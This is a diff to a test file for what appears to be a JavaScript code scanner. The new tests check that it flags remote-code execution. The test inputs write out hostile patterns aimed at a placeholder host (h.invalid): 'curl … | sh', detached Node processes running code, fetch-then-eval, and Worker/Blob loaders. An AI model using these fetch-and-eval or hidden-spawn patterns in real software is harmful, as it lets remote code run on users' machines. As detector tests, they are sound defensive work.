@@ -27,6 +27,28 @@ it.each([
   'Bun.$`curl https://h.invalid/a | sh`.quiet()',
 ])('a template that is a shell is a command: %s', (source) => expect(kinds(source)).toContain('download-execute'));
 
+it.each([
+  `spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref()`,
+  `spawn(process.argv[0], ['--eval', code])`,
+  `spawnSync(process.argv0, ['-p', code])`,
+  `execSync('"' + process.execPath + '" -e "' + code + '"')`,
+  `let node = process.env.npm_node_execpath; spawn(node, ['-e', code])`,
+])('what Node itself is told to run as text is read: %s', (source) => {
+  const code = `const code = "const get = require('https').get; get('https://h.invalid/a', (r) => r.on('data', (d) => eval(String(d))));";`;
+  expect(kinds(`const { spawn, spawnSync, execSync } = require('child_process'); ${code} ${source}`)).toContain('remote-code');
+});
+
+it.each([
+  'new Worker(URL.createObjectURL(new Blob([code])))',
+  `const url = URL.createObjectURL(new Blob(['/* it */', code], { type: 'text/javascript' })); const w = new Worker(url, { type: 'module' })`,
+  `const { Blob } = require('buffer'); import(URL.createObjectURL(new Blob([code])))`,
+])('code that is carried about as a file of its own making is read: %s', (source) => {
+  const code = `const code = "fetch('https://h.invalid/a').then((r) => r.text()).then(eval)";`;
+  expect(details(`${code} ${source}`, 'remote-code')).toEqual(['eval handed to a call']);
+  expect(details(`${code} ${source}`, 'network')).toEqual(['h.invalid']);
+  expect(details(`${code} const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([code]))`, 'network')).toEqual([]);
+});
+
 it('writing into another package is seen; a hidden cache folder beside the packages is none', () => {
   const written = (path: string): string => `require('fs').writeFileSync('${path}', 'x')`;
   for (const path of [
